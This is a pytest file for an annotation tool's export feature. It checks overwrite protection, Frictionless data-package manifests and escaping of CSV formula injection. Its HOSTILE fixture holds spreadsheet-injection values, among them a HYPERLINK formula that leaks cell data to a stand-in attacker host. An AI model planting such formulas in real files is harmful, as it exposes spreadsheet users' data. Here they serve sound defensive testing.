"""Where exports may write (issue 19): only over nothing or an earlier Recto export of the
same kind, judged by content; CSV folders carry a Frictionless manifest; `--excel` CSVs
are safe in a spreadsheet while plain CSVs stay exact.

Everything is real: projects with real sample scans, real SQLite files, the real
`recto` console script for the command-line cases.
"""
from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from pathlib import Path

import pytest

from recto.annotations import file_kinds as fk
from recto.annotations.export_schema import SPECS, ExportTargetError
from recto.annotations.model import new_id, now_iso
from recto.annotations.project import Project
from recto.app.export import ExportFilters, ExportOptions, export_annotations
from tests.cli_runner import recto
from tests.export_fixtures import build_project

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1)",
           "\tTab", "\rCarriage", 'a,b "quoted"\nsecond line', "'already quoted", "Sōren")
FORMATS = ("sqlite", "w3c", "csv")
NAME = {"sqlite": "set.db", "w3c": "set.jsonld", "csv": "set-csv"}


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    """Three real scans, every kind of annotation, and actors named like formulas."""
    folder = tmp_path_factory.mktemp("proj")
    path = folder / "a.recto"
    build_project(path, folder / "pdfs")
    t = now_iso()
    with Project.open(path) as proj, proj.edit("Hostile names") as ed:
        for name in HOSTILE:
            ed.insert("actors", {"id": new_id(), "name": name, "type": "person",
                                 "note": name, "author": "tester", "created_at": t,
                                 "modified_at": t})
    return path


def export(project: Path, out: Path, fmt: str = "sqlite", excel: bool = False, **filters):
    options = ExportOptions(fmt, False, ExportFilters(**filters), excel)
    with Project.open(project) as proj:
        return export_annotations(proj, out, options)


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` with its bytes (sub-folders included)."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


def foreign_targets(tmp_path: Path) -> dict[str, Path]:
    """A text file, a foreign SQLite database, another Recto project, a folder of files."""
    text = tmp_path / "notes.txt"
    text.write_text("my notes, not Recto's\n")
    foreign = tmp_path / "library.sqlite"
    conn = sqlite3.connect(foreign)
    with conn:
        conn.execute("CREATE TABLE books (title TEXT)")
        conn.execute("INSERT INTO books VALUES ('Ulysses')")
    conn.close()
    other = tmp_path / "other.recto"
    with Project.open(other, create=True) as proj:
        proj.set_meta("name", "Someone else's project")
    folder = tmp_path / "research"
    (folder / "chapter").mkdir(parents=True)
    (folder / "notes.txt").write_text("notes")
    (folder / "chapter" / "ch1.docx").write_bytes(b"PK\x03\x04 chapter one")
    return {"text": text, "sqlite": foreign, "project": other, "folder": folder}


# -- file kinds and application ids ------------------------------------------------------
def test_sets_and_projects_carry_their_application_id(project, tmp_path):
    out = tmp_path / "set.db"
    export(project, out)
    assert fk.application_id(out.read_bytes()[:100]) == fk.SET_APPLICATION_ID
    assert fk.application_id(project.read_bytes()[:100]) == fk.PROJECT_APPLICATION_ID
    assert fk.kind_of(out) == fk.SET and fk.kind_of(project) == fk.PROJECT
    export(project, tmp_path / "w.jsonld", "w3c")
    export(project, tmp_path / "c", "csv")
    assert fk.kind_of(tmp_path / "w.jsonld") == fk.W3C
    assert fk.kind_of(tmp_path / "c") == fk.CSV_FOLDER
    assert fk.kind_of(tmp_path / "nothing") == fk.MISSING
    targets = foreign_targets(tmp_path)
    assert [fk.kind_of(targets[k]) for k in ("text", "sqlite", "project", "folder")] == [
        fk.FILE, fk.SQLITE, fk.PROJECT, fk.FOLDER]


def test_older_files_without_an_application_id_are_still_recognised(project, tmp_path):
    old_set, old_project = tmp_path / "old.db", tmp_path / "old.recto"
    export(project, old_set)
    with Project.open(old_project, create=True):
        pass
    for path in (old_set, old_project):
        conn = sqlite3.connect(path)
        conn.execute("PRAGMA application_id = 0")
        conn.close()
        assert fk.application_id(path.read_bytes()[:100]) == 0
    assert fk.kind_of(old_set) == fk.SET and fk.kind_of(old_project) == fk.PROJECT
    export(project, old_set)  # an older set is replaced, and now carries the id
    assert fk.application_id(old_set.read_bytes()[:100]) == fk.SET_APPLICATION_ID
    with Project.open(old_project):  # opened writable: the project gains its id
        pass
    assert fk.application_id(old_project.read_bytes()[:100]) == fk.PROJECT_APPLICATION_ID


def test_w3c_files_are_judged_by_their_generator_whatever_their_layout(project, tmp_path):
    out = tmp_path / "w.jsonld"
    export(project, out, "w3c")
    doc = json.loads(out.read_text(encoding="utf-8"))
    compact = tmp_path / "compact.jsonld"  # items first, no line breaks: parsed whole
    compact.write_text(json.dumps({"first": doc["first"], **doc}), encoding="utf-8")
    assert fk.kind_of(compact) == fk.W3C
    other = tmp_path / "hypothesis.jsonld"  # the same kind of file from another tool
    other.write_text(json.dumps({**doc, "generator": {"type": "Software", "name": "Hypothesis"}},
                                indent=1), encoding="utf-8")
    assert fk.kind_of(other) == fk.FILE
    with pytest.raises(ExportTargetError, match="a file Recto did not write"):
        export(project, other, "w3c")


def test_opening_a_foreign_database_as_a_project_never_stamps_it(tmp_path):
    foreign = foreign_targets(tmp_path)["sqlite"]
    with pytest.raises(Exception, match="not a Recto project"):
        Project.open(foreign)
    assert fk.application_id(foreign.read_bytes()[:100]) == 0
    assert fk.kind_of(foreign) == fk.SQLITE


# -- the one rule for every output path --------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("victim", ("text", "sqlite", "project", "folder"))
def test_every_format_refuses_what_recto_did_not_write(project, tmp_path, fmt, victim):
    target = foreign_targets(tmp_path)[victim]
    before = snapshot(tmp_path)
    with pytest.raises(ExportTargetError) as err:
        export(project, target, fmt)
    message = str(err.value)
    assert message.count(". ") == 0 and message.endswith("choose another name.")
    assert target.name in message and "will not overwrite it" in message
    assert snapshot(tmp_path) == before  # not a byte changed, nothing added (no -wal, .lock)
    if victim == "project":
        with Project.open(target) as proj:
            assert proj.name == "Someone else's project"


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_replaces_its_own_earlier_export(project, tmp_path, fmt):
    out = tmp_path / NAME[fmt]
    export(project, out, fmt, kinds=("redactions",))
    first = snapshot(tmp_path)
    export(project, out, fmt)
    second = snapshot(tmp_path)
    assert first != second
    assert fk.kind_of(out) == {"sqlite": fk.SET, "w3c": fk.W3C, "csv": fk.CSV_FOLDER}[fmt]
    assert not [p for p in tmp_path.iterdir() if ".tmp-export" in p.name]
    if fmt == "csv":  # the new folder lists exactly what is in it
        files = fk.manifest(out)["recto"]["files"]
        assert sorted(files) == sorted(p.name for p in out.iterdir())


@pytest.mark.parametrize("fmt,other", [("sqlite", "w3c"), ("w3c", "sqlite"), ("w3c", "csv"),
                                       ("csv", "sqlite")])
def test_an_export_of_another_format_is_not_replaced(project, tmp_path, fmt, other):
    out = tmp_path / "out"
    export(project, out, other)
    before = snapshot(tmp_path)
    with pytest.raises(ExportTargetError, match="not an earlier Recto"):
        export(project, out, fmt)
    assert snapshot(tmp_path) == before


def test_a_recto_csv_folder_that_also_holds_the_users_files_is_refused(project, tmp_path):
    out = tmp_path / "csv"
    export(project, out, "csv")
    (out / "my-analysis.R").write_text("library(readr)")
    before = snapshot(tmp_path)
    with pytest.raises(ExportTargetError, match="folder holding files Recto did not write"):
        export(project, out, "csv")
    assert snapshot(tmp_path) == before


def test_a_link_to_an_earlier_csv_folder_stays_a_link(project, tmp_path):
    real, link = tmp_path / "real", tmp_path / "link"
    export(project, real, "csv", kinds=("redactions",))
    link.symlink_to(real, target_is_directory=True)
    export(project, link, "csv")
    assert link.is_symlink() and fk.kind_of(real) == fk.CSV_FOLDER
    with open(real / "claims.csv", encoding="utf-8", newline="") as fh:
        assert len(list(csv.reader(fh))) == 3  # the new, unfiltered export: two claims
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link", "real"]


def test_defect_1_the_research_folder_keeps_its_files(project, tmp_path):
    """A folder with a `metadata.csv` of some other tool was deleted whole by a CSV export."""
    research = tmp_path / "research"
    (research / "chapter").mkdir(parents=True)
    (research / "metadata.csv").write_text("key,value\nsource,Zotero\n")
    (research / "notes.txt").write_text("interview notes")
    (research / "chapter" / "ch1.docx").write_bytes(b"PK\x03\x04 chapter one")
    before = snapshot(research)
    res = recto("export", project, research, "--format", "csv", check=False)
    assert res.returncode == 2, res.stderr
    assert res.stderr.startswith("Error: research is a folder holding files Recto did not "
                                 "write") and "Traceback" not in res.stderr
    assert snapshot(research) == before
    assert [p.name for p in tmp_path.iterdir()] == ["research"]  # no temp folder left


def test_defect_2_w3c_export_refuses_a_project_from_the_command_line(project, tmp_path):
    other = foreign_targets(tmp_path)["project"]
    before = other.read_bytes()
    res = recto("export", project, other, "--format", "w3c", check=False)
    assert res.returncode == 2 and "is a Recto project" in res.stderr, res.stderr
    assert other.read_bytes() == before
    with Project.open(other) as proj:
        assert proj.name == "Someone else's project"


# -- the CSV manifest and the two kinds of CSV --------------------------------------------
def test_csv_folder_has_a_frictionless_datapackage(project, tmp_path):
    out = tmp_path / "csv"
    export(project, out, "csv")
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "tabular-data-package"
    assert package["recto"]["format"] == fk.CSV_FORMAT and package["recto"]["excel"] is False
    names = {r["name"] for r in package["resources"]}
    assert names == {s for s in SPECS if s != "ocr_words"} | {"citations"}
    assert sorted(package["recto"]["files"]) == sorted(p.name for p in out.iterdir())
    types = {str: "string", int: "integer", float: "number"}
    for res in package["resources"]:
        data = (out / res["path"]).read_bytes()
        assert res["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
        assert res["bytes"] == len(data) and res["profile"] == "tabular-data-resource"
        header = next(csv.reader(data.decode("utf-8").splitlines()))
        assert [f["name"] for f in res["schema"]["fields"]] == header
        if res["name"] in SPECS:
            spec = SPECS[res["name"]]
            assert [f["type"] for f in res["schema"]["fields"]] == [
                types[t] for t in spec.columns.values()]
            pk = [spec.pk] if isinstance(spec.pk, str) else list(spec.pk)
            assert res["schema"]["primaryKey"] == pk
        for key in res["schema"].get("foreignKeys", []):
            assert key["reference"]["resource"] in names
            assert set(key["fields"]) <= set(header)
    redactions = next(r for r in package["resources"] if r["name"] == "redactions")
    assert {"fields": ["document_id"], "reference": {"resource": "documents", "fields": ["id"]}} \
        in redactions["schema"]["foreignKeys"]


def _set_rows(set_db: Path, table: str, columns) -> list[list[str]]:
    conn = sqlite3.connect(set_db)
    rows = conn.execute(f"SELECT {', '.join(columns)} FROM {table} "
                        f"ORDER BY {SPECS[table].order_by}").fetchall()
    conn.close()
    return [["" if v is None else str(v) for v in row] for row in rows]


def test_plain_csv_round_trips_exactly_with_the_csv_module(project, tmp_path):
    out, set_db = tmp_path / "csv", tmp_path / "set.db"
    export(project, out, "csv")
    export(project, set_db)
    assert not (out / "actors.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    for name, spec in SPECS.items():
        if name == "ocr_words":
            continue
        with open(out / f"{name}.csv", encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert rows[0] == list(spec.columns)
        if name != "metadata":  # exported_at differs between the two exports
            assert rows[1:] == _set_rows(set_db, name, spec.columns), name
    with open(out / "actors.csv", encoding="utf-8", newline="") as fh:
        names = {r["name"] for r in csv.DictReader(fh)}
    assert set(HOSTILE) <= names  # formulas, tabs, CR, newlines: all exactly as typed


def test_excel_csv_has_a_bom_and_no_live_formulas(project, tmp_path):
    out = tmp_path / "xl"
    export(project, out, "csv", excel=True)
    for path in out.glob("*.csv"):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path.name
    with open(out / "actors.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {r["name"] for r in rows}
    for name in HOSTILE:
        expected = "'" + name if name[0] in "=+-@\t\r" else name
        assert expected in names, name
    cells = names | {r["note"] for r in rows}
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with open(out / "redactions.csv", encoding="utf-8-sig", newline="") as fh:
        boxes = [r["x0"] for r in csv.DictReader(fh)]
    assert boxes and all(float(b) >= 0 for b in boxes)  # numbers stay numbers
    assert json.loads((out / "datapackage.json").read_text())["recto"]["excel"] is True


def test_excel_option_is_for_csv_only_on_the_command_line(project, tmp_path):
    res = recto("export", project, tmp_path / "s.db", "--excel", check=False)
    assert res.returncode == 1 and "CSV format only" in res.stderr, res.stderr
    assert not (tmp_path / "s.db").exists()
    recto("export", project, tmp_path / "xl", "--format", "csv", "--excel")
    assert (tmp_path / "xl" / "actors.csv").read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("excel", (False, True))
def test_frictionless_validates_the_folder_and_catches_a_changed_file(project, tmp_path, excel):
    frictionless = pytest.importorskip("frictionless")
    out = tmp_path / "csv"
    export(project, out, "csv", excel=excel)
    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["title", "message"])[:5]
    assert len(report.tasks) == len(fk.manifest(out)["resources"])
    with open(out / "mentions.csv", "a", encoding="utf-8", newline="") as fh:
        fh.write(f"{new_id()},no-such-actor,no-such-document,1,,,,,,,,x,confirmed,manual,,,,\r\n")
    report = frictionless.validate(str(out / "datapackage.json"))
    assert not report.valid
    types = {e[0] for e in report.flatten(["type"])}
    assert {"foreign-key", "hash-count", "byte-count"} <= types, types
